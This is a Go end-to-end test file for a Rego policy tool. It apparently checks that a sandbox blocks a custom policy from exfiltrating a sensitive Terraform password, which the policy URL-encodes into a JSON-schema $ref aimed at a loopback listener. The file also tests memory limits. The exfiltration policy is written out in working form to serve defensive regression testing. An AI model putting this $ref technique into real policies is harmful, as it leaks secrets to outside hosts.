package e2e

import (
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// TestSandboxExfiltration runs the attack of ../shared/repro/exfil.rego
// through every command that loads policies: a custom policy (and its
// test) sends a value Terraform marks sensitive to a listener on loopback
// through a JSON-schema $ref. The listener must receive nothing, and the
// runs must not pass.
func TestSandboxExfiltration(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		_, _ = w.Write([]byte(`{}`))
	}))
	defer srv.Close()

	dir := t.TempDir()
	policy := `package main

import rego.v1

deny contains "sent" if {
	some rc in input.resource_changes
	rc.address == "aws_db_instance.main"
	url := concat("", ["` + srv.URL + `/exfil/", urlquery.encode(rc.change.after.password)])
	r := json.match_schema({}, {"$ref": url})
	r[0] == true
}
`
	test := `package main

import rego.v1

test_sends if {
	r := json.match_schema({}, {"$ref": "` + srv.URL + `/from-test"})
	r[0] == true
}
`
	// A schema annotation is loaded by OPA's type checker when annotations
	// are used for type checking: it must not be fetched either.
	annotated := `# METADATA
# schemas:
#   - input: {"$ref": "` + srv.URL + `/from-annotation"}
package annotated

import rego.v1

deny contains "x" if input.x == 1
`
	for name, src := range map[string]string{"exfil.rego": policy, "exfil_test.rego": test, "annotated.rego": annotated} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	plan, err := filepath.Abs(filepath.Join(repoRoot, "test/examples/plan.json"))
	if err != nil {
		t.Fatal(err)
	}

	res := run(t, "", "test", "--no-builtins", "-p", dir, plan)
	if res.code != 3 || !strings.Contains(res.stderr, "schema reference") {
		t.Errorf("test: exit %d, stderr %q; want 3 and a line saying the schema reference was refused", res.code, res.stderr)
	}
	if strings.Contains(res.stdout+res.stderr, "correct-horse") {
		t.Errorf("the sensitive password appears in the output:\n%s%s", res.stdout, res.stderr)
	}
	res = run(t, "", "verify", "--no-builtins", "-p", dir)
	if res.code == 0 {
		t.Errorf("verify passed a test that loads a remote schema:\n%s", res.stdout)
	}
	for _, args := range [][]string{{"rules"}, {"frameworks"}} {
		if res := run(t, "", append(args, "--no-builtins", "-p", dir)...); res.code != 0 {
			t.Errorf("%s: exit %d: %s", args[0], res.code, res.stderr)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the loopback listener received %d requests; want none", n)
	}

	// The reproducer as filed, against its fixed port.
	repro := filepath.Join(repoRoot, "../shared/repro/exfil.rego")
	if _, err := os.Stat(repro); err != nil {
		return
	}
	var reproHits atomic.Int64
	l := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { reproHits.Add(1) }))
	ln, err := net.Listen("tcp", "127.0.0.1:18080")
	if err != nil {
		t.Logf("port 18080 busy, the reproducer as filed is not run: %v", err)
		return
	}
	l.Listener = ln
	l.Start()
	defer l.Close()
	res = run(t, "", "test", "--no-builtins", "-p", "../shared/repro/exfil.rego", "test/examples/plan.json")
	if res.code != 3 || reproHits.Load() != 0 {
		t.Errorf("repro/exfil.rego: exit %d, %d requests; want 3 and none", res.code, reproHits.Load())
	}
}

// TestMemoryLimitCLI: a policy that builds a huge value is stopped by
// --max-memory with a policy error (exit 2) naming the input and the rule,
// instead of growing until the kernel kills tenet.
func TestMemoryLimitCLI(t *testing.T) {
	dir := t.TempDir()
	src := "package main\n\nimport rego.v1\n\ndeny contains msg if {\n\tn := count(numbers.range(1, 1000000000))\n\tmsg := sprintf(\"%d\", [n])\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "hog.rego"), []byte(src), 0o600); err != nil {
		t.Fatal(err)
	}
	res := run(t, "", "test", "--no-builtins", "-p", dir, "--max-memory", "300MiB", "test/examples/k8s.yaml")
	if res.code != 2 || !strings.Contains(res.stderr, "memory limit of 300 MiB") || !strings.Contains(res.stderr, "main.deny") {
		t.Errorf("exit %d, stderr %q; want 2 and a line naming the limit and the rule", res.code, res.stderr)
	}
	// The same in a test that tenet verify runs.
	tdir := t.TempDir()
	test := "package main\n\nimport rego.v1\n\ntest_hog if count(numbers.range(1, 1000000000)) > 0\n"
	if err := os.WriteFile(filepath.Join(tdir, "hog_test.rego"), []byte(test), 0o600); err != nil {
		t.Fatal(err)
	}
	res = run(t, "", "verify", "--no-builtins", "-p", tdir, "--max-memory", "300MiB")
	if res.code != 2 || !strings.Contains(res.stderr, "memory limit of 300 MiB") || !strings.Contains(res.stderr, "test_hog") {
		t.Errorf("verify: exit %d, stderr %q; want 2 and a line naming the limit and the test", res.code, res.stderr)
	}
	res = run(t, "", "test", "--max-memory", "lots", "test/examples/k8s.yaml")
	if res.code != 2 || !strings.Contains(res.stderr, "invalid size") {
		t.Errorf("bad size: exit %d, stderr %q", res.code, res.stderr)
	}
}
